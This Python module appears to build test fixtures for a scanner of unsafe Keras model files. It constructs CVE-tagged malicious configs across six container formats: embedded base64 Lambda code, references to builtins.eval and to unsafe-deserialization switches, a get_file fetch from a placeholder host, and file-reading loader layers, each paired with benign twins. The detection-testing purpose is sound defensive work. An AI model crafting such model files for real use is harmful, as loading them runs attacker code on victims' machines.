"""Attacks by what a Keras config names, in each container that has configs."""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Callable, Mapping
from typing import Any

from tests.builders import cases as c
from tests.builders import keras as k
from tests.builders import saved_models as sm
from tests.builders.attacks_common import ADDRESS, CODE, NOWHERE, Attack
from tests.builders.bundles import chunk, number
from tests.builders.hdf5 import DENSE, DENSE_CONFIG, whole_model

# --- configs in every container -------------------------------------------------------------------

_KERAS = {"keras_version": "3.5.0", "date_saved": "2026-01-01@00:00:00"}


def _h5(config: Any, training: Any = None) -> Callable[[str], str]:
    return lambda folder: whole_model(os.path.join(folder, "model.h5"), DENSE, config, training)


def _members(folder: str, config: Any, metadata: Any = None) -> dict[str, bytes]:
    return {
        "metadata.json": json.dumps(metadata or _KERAS).encode(),
        "config.json": json.dumps(config).encode(),
        "model.weights.h5": k.h5_weights(folder),
    }


def _zip(config: Any, metadata: Any = None) -> Callable[[str], str]:
    def make(folder: str) -> str:
        parts = _members(folder, config, metadata)
        return k.keras_zip(os.path.join(folder, "model.keras"), parts)

    return make


def _folder(config: Any) -> Callable[[str], str]:
    def make(folder: str) -> str:
        return k.keras_folder(os.path.join(folder, "model"), _members(folder, config))

    return make


def _json(config: Any) -> Callable[[str], str]:
    def make(folder: str) -> str:
        path = os.path.join(folder, "config.json")
        with open(path, "w", encoding="utf-8") as file:
            json.dump(config, file)
        return path

    return make


def _saved(config: Any) -> Callable[[str], str]:
    """A SavedModel with what tf_keras keeps of a layer."""

    def make(folder: str) -> str:
        node = number(2, 0) + chunk(3, b"root") + chunk(4, b"_tf_keras_layer")
        node += chunk(5, json.dumps(config).encode())
        path = os.path.join(folder, "saved")
        return sm.module(path, files={"keras_metadata.pb": chunk(1, node)})

    return make


def _saved_early(config: Any) -> Callable[[str], str]:
    """As TensorFlow before 2.5 kept it: in the object graph."""

    def make(folder: str) -> str:
        held = sm.saved_object(sm.user_object("_tf_keras_layer", json.dumps(config)))
        meta = sm.meta_graph(objects=sm.object_graph([held]))
        return sm.write(os.path.join(folder, "saved"), meta)

    return make


_CONTAINERS: Mapping[str, Callable[[Any], Callable[[str], str]]] = {
    "h5": _h5,
    "keras": _zip,
    "folder": _folder,
    "json": _json,
    "saved": _saved,
    "saved-early": _saved_early,
}


def _in_each(
    name: str, cve: str, config: Any, *codes: str, says: tuple[str, ...] = ()
) -> tuple[Attack, ...]:
    return tuple(
        Attack(f"{name}-{kind}", cve, make(config), codes, says)
        for kind, make in _CONTAINERS.items()
    )


def obj(name: str, module: str | None, config: Any = None, registered: str | None = None) -> Any:
    """An object as Keras 3 writes it."""
    return {
        "class_name": name,
        "module": module,
        "config": {} if config is None else config,
        "registered_name": registered,
    }


def function(name: str, module: str) -> Any:
    return obj("function", module, name, "function")


def _layer(name: str, kind: str = "Dense", module: str = "keras.layers", **config: Any) -> Any:
    own = {"units": 3, "use_bias": True} if kind == "Dense" else {}
    return obj(kind, module, {"name": name, "trainable": True, **own, **config})


def _model(*layers: Any, **more: Any) -> Any:
    found = obj("Sequential", "keras", {"name": "model", "layers": list(layers)})
    return {**found, **more}


# --- code -----------------------------------------------------------------------------------------

_BASE64 = base64.encodebytes(CODE).decode("ascii")
KERAS2_CODE = [_BASE64, None, None]
KERAS3_CODE = {"class_name": "__lambda__", "config": {"code": _BASE64, "defaults": None}}
_TWICE_2 = {"function": KERAS2_CODE, "function_type": "lambda", "output_shape_type": "raw"}
_TWICE_3 = {"function": KERAS3_CODE, "arguments": {}}
_DENSE = _layer("dense")
TWICE = _model(_layer("twice", "Lambda", **_TWICE_3))
_LAMBDAS = (
    *_in_each(
        "lambda-list",
        "CVE-2024-3660",
        c.sequential(c.dense("dense", 3), c.layer("Lambda", "twice", **_TWICE_2)),
        *("safety-lambda",),
        says=("'twice'", "$.config.layers[1]", f"{len(CODE):,} bytes of code"),
    ),
    *_in_each(
        "lambda-dict",
        "CVE-2025-9905",
        _model(_DENSE, _layer("twice", "Lambda", **_TWICE_3)),
        *("safety-lambda",),
        says=("'twice'", f"{len(CODE):,} bytes of code"),
    ),
    Attack(
        "lambda-nested",
        "CVE-2024-3660",
        _zip(_model(_DENSE, _model(_model(_layer("deep", "Lambda", **_TWICE_3))))),
        ("safety-lambda",),
        ("'deep'", "$.config.layers[1].config.layers[0].config.layers[0]"),
    ),
    Attack(
        "lambda-wrapped",
        "CVE-2024-3660",
        _h5(_model(_layer("each", "TimeDistributed", layer=_layer("in", "Lambda", **_TWICE_2)))),
        ("safety-lambda",),
        ("'in'",),
    ),
    Attack(
        "lambda-initializer",
        "CVE-2024-3660",
        _zip(_model(_layer("dense", kernel_initializer=KERAS3_CODE))),
        ("safety-lambda",),
        ("$.config.layers[0].config.kernel_initializer",),
    ),
    Attack(
        "lambda-compile-config",
        "CVE-2024-3660",
        _zip(_model(_DENSE, compile_config={"loss": KERAS3_CODE, "optimizer": "adam"})),
        ("safety-lambda",),
        ("$.compile_config.loss",),
    ),
    Attack(
        "lambda-training-config",
        "CVE-2025-9905",
        _h5(DENSE_CONFIG, {"loss": KERAS3_CODE, "metrics": None}),
        ("safety-lambda",),
        ("training_config: $.loss",),
    ),
    Attack(
        "lambda-output-shape",
        "CVE-2024-3660",
        _h5(
            c.sequential(
                c.dense("dense", 3),
                c.layer(
                    "Lambda",
                    "shape",
                    function=KERAS2_CODE,
                    function_type="lambda",
                    output_shape=KERAS2_CODE,
                    output_shape_type="lambda",
                ),
            )
        ),
        ("safety-lambda",),
        ("output_shape: ",),
    ),
    Attack(
        "lambda-metadata",
        "CVE-2024-3660",
        _zip(_model(_DENSE), {**_KERAS, "extra": KERAS3_CODE}),
        ("safety-lambda",),
        ("metadata.json: $.extra",),
    ),
    Attack(
        "lambda-names-a-function",
        "CVE-2025-9906",
        _h5(_model(_layer("f", "Lambda", function="scale", function_type="function"))),
        ("safety-lambda",),
    ),
)
_LAMBDA_TWINS = (
    Attack(
        "lambda-of-keras",
        "",
        _zip(_model(_layer("relu", "Lambda", function=function("relu", "keras.activations")))),
    ),
    *_in_each("named-lambda", "", c.sequential(c.dense("Lambda", 3), c.dense("__lambda__", 3))),
    Attack("activation", "", _zip(_model(_DENSE, _layer("relu", "Activation", activation="relu")))),
    Attack(
        "op-lambda",
        "",
        _h5(_model(_layer("sum", "TFOpLambda", function="math.reduce_sum"))),
    ),
)


# --- modules --------------------------------------------------------------------------------------


def _root(module: str, name: str) -> Any:
    return {**_model(_DENSE), "build_config": {"input_shape": obj(name, module)}}


_SQRT = function("sqrt", "math")
_UNSAFE = function("enable_unsafe_deserialization", "keras.config")
_MODULES = (
    *_in_each(
        "module-initializer",
        "CVE-2025-1550",
        _model(_layer("dense", kernel_initializer=_SQRT)),
        *("safety-module",),
        says=("math.sqrt", "$.config.layers[0].config.kernel_initializer", "'dense'"),
    ),
    *(
        Attack(
            f"module-{key}",
            "CVE-2025-1550",
            _zip(_model(_layer("norm", "BatchNormalization", **{key: _SQRT}))),
            ("safety-module",),
            (f"config.{key}",),
        )
        for key in ("beta_regularizer", "gamma_constraint")
    ),
    Attack(
        "module-class",
        "CVE-2025-1550",
        _zip(_model(_DENSE, _layer("run", "Fraction", "fractions"))),
        ("safety-module",),
        ("fractions.Fraction",),
    ),
    Attack(
        "module-registered",
        "CVE-2025-1550",
        _zip(_model(_DENSE, obj("sqrt", "math", {"name": "s"}, "Custom>sqrt"))),
        ("safety-module",),
        ("math.sqrt",),
    ),
    Attack(
        "module-builtins",
        "CVE-2025-1550",
        _zip(_model(_layer("dense", kernel_initializer=function("eval", "builtins")))),
        ("safety-module",),
        ("builtins.eval",),
    ),
    Attack(
        "module-called-lambda",
        "CVE-2025-1550",
        _zip(_model(_DENSE, _layer("run", "Lambda", "fractions"))),
        ("safety-lambda", "safety-module"),
        ("fractions.Lambda",),
    ),
    Attack("module-build-config", "CVE-2025-1550", _zip(_root("math", "sqrt")), ("safety-module",)),
    Attack(
        "module-compile-config",
        "CVE-2025-1550",
        _zip(_model(_DENSE, compile_config={"loss": _SQRT})),
        ("safety-module",),
        ("$.compile_config.loss",),
    ),
    Attack(
        "module-typespec",
        "CVE-2025-1550",
        _zip(_model(_layer("x", "InputLayer", spec=obj("__typespec__", "fractions", {})))),
        ("safety-module",),
    ),
    Attack(
        "module-metadata",
        "CVE-2025-1550",
        _zip(_model(_DENSE), {**_KERAS, "extra": _SQRT}),
        ("safety-module",),
        ("metadata.json: $.extra",),
    ),
    Attack(
        "get-file",
        "CVE-2025-8747",
        _zip(
            _model(
                _layer(
                    "fetch",
                    "Lambda",
                    function=function("get_file", "keras.utils"),
                    arguments={"origin": f"{ADDRESS}/a.tar", "cache_dir": NOWHERE, "extract": True},
                )
            )
        ),
        ("safety-lambda", "safety-module", "safety-path"),
        ("keras.utils.get_file", f"{ADDRESS}/a.tar"),
    ),
    Attack(
        "get-file-inner-module",
        "CVE-2024-55459",
        _zip(
            _model(
                _layer(
                    "dense",
                    activation=function("get_file", "keras.src.utils.file_utils"),
                )
            )
        ),
        ("safety-module",),
        ("keras.src.utils.file_utils.get_file",),
    ),
    Attack(
        "get-file-tf-keras",
        "CVE-2024-55459",
        _h5(_model(_layer("dense", activation=function("get_file", "tf_keras.utils")))),
        ("safety-module",),
    ),
    Attack(
        "enable-unsafe",
        "CVE-2025-9906",
        _zip(
            _model(_layer("off", "Lambda", function=_UNSAFE), _layer("twice", "Lambda", **_TWICE_3))
        ),
        ("safety-lambda", "safety-module"),
        ("keras.config.enable_unsafe_deserialization", "'twice'"),
    ),
    Attack(
        "enable-unsafe-inner-module",
        "CVE-2025-9906",
        _zip(
            _model(
                _layer(
                    "off",
                    "Lambda",
                    function=function(
                        "set_global_attribute", "keras.src.backend.common.global_state"
                    ),
                )
            )
        ),
        ("safety-lambda", "safety-module"),
        ("set_global_attribute",),
    ),
    Attack(
        "load-model",
        "CVE-2025-9906",
        _zip(
            _model(
                _layer(
                    "load",
                    "Lambda",
                    function=function("load_model", "keras.models"),
                    arguments={"safe_mode": False},
                )
            )
        ),
        ("safety-lambda", "safety-module"),
        ("keras.models.load_model",),
    ),
    Attack(
        "lambda-module-beside",
        "CVE-2025-9905",
        _h5(
            c.sequential(
                c.dense("dense", 3),
                c.layer("Lambda", "f", function="sqrt", function_type="function", module="math"),
            )
        ),
        ("safety-lambda", "safety-module"),
        ("math.sqrt",),
    ),
)
_MODULE_TWINS = (
    Attack(
        "registered",
        "",
        _zip(_model(_DENSE, obj("Scale", "my.layers", {"name": "s"}, "Custom>Scale"))),
    ),
    Attack(
        "other-toolkits",
        "",
        _h5(
            _model(
                obj("QDense", "qkeras.qlayers", {"name": "q"}, "QDense"),
                obj("QuantizeWrapper", None, {"name": "v"}, "Vitis>QuantizeWrapper"),
                c.pruned(c.dense("p", 3)),
            )
        ),
    ),
    Attack(
        "own-modules",
        "",
        _zip(
            _model(
                _layer(
                    "dense",
                    kernel_initializer=obj("GlorotUniform", "keras.initializers", {"seed": None}),
                    kernel_regularizer=obj("L2", "keras.regularizers", {"l2": 0.01}),
                    activation=function("relu", "builtins"),
                    dtype=obj("DTypePolicy", "keras", {"name": "float32"}),
                ),
                compile_config={"loss": function("mse", "keras.losses"), "optimizer": "adam"},
            )
        ),
    ),
)


# --- layers that load -----------------------------------------------------------------------------

_LOADERS = (
    Attack(
        "tfsm-layer",
        "CVE-2026-1462",
        _zip(
            _model(_layer("inner", "TFSMLayer", filepath=f"{NOWHERE}/saved", call_endpoint="serve"))
        ),
        ("safety-loader", "safety-path"),
        ("'inner'", f"{NOWHERE}/saved"),
    ),
    Attack(
        "tfsm-layer-nested",
        "CVE-2026-1462",
        _folder(_model(_model(_layer("inner", "TFSMLayer", filepath="saved")))),
        ("safety-loader",),
        ("'inner'",),
    ),
    Attack(
        "torch-module",
        "",
        _zip(_model(_layer("torch", "TorchModuleWrapper", module={"class_name": "x"}))),
        ("safety-loader",),
        ("unpickles",),
    ),
    Attack(
        "hub-layer",
        "",
        _h5(_model(_layer("hub", "KerasLayer", handle=f"{ADDRESS}/module"))),
        ("safety-loader", "safety-path"),
        (f"{ADDRESS}/module",),
    ),
    *(
        Attack(
            f"vocabulary-{kind.lower()}-{where}",
            "CVE-2025-12058",
            _zip(_model(_layer("words", kind, vocabulary=path))),
            ("safety-vocabulary",),
            (path, "'words'", said),
        )
        for kind in ("StringLookup", "IntegerLookup", "TextVectorization")
        for where, path, said in (
            ("path", f"{NOWHERE}/x.txt", "a local file"),
            ("remote", "gs://nowhere/x.txt", "a remote file"),
        )
    ),
    *_in_each(
        "vocabulary",
        "CVE-2025-12058",
        _model(_DENSE, _layer("words", "StringLookup", vocabulary=f"{NOWHERE}/x.txt")),
        *("safety-vocabulary",),
    ),
    Attack(
        "op-lambda-reads",
        "",
        _h5(_model(_layer("read", "TFOpLambda", function="io.read_file"))),
        ("safety-call",),
        ("tf.io.read_file",),
    ),
)
_LOADER_TWINS = (
    *(
        Attack(
            f"vocabulary-{name}",
            "",
            _zip(_model(_layer("words", "StringLookup", vocabulary=words))),
        )
        for name, words in (("list", ["aaaa", "bbbb"]), ("null", None), ("empty", []))
    ),
    *_in_each(
        "vocabulary-list", "", _model(_layer("words", "StringLookup", vocabulary=["a", "b"]))
    ),
)

ATTACKS = (*_LAMBDAS, *_MODULES, *_LOADERS)
TWINS = (*_LAMBDA_TWINS, *_MODULE_TWINS, *_LOADER_TWINS)
